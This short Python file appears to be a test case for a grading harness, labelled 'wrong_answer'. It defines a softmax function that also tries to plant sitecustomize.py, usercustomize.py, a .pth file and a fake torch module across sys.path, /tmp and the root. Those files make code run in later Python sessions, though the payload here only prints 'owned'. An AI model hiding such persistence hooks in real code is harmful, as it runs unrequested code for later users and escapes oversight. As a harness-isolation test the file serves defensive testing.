"""C. Replacing `torch.py` through the working directory, or a `.pth` file, for those who come after.

Verdict: wrong_answer
"""

import os
import sys


def softmax(x, dim):
    for folder in (".", "/", "/tmp", *sys.path):
        for name in ("torchyard-hostile-torch.py", "torchyard-hostile.pth", "sitecustomize.py", "usercustomize.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("print('owned')")
            except OSError:
                continue
            e = (x - x.amax(dim, keepdim=True)).exp()
            return e / e.sum(dim, keepdim=True)
    return x * 0
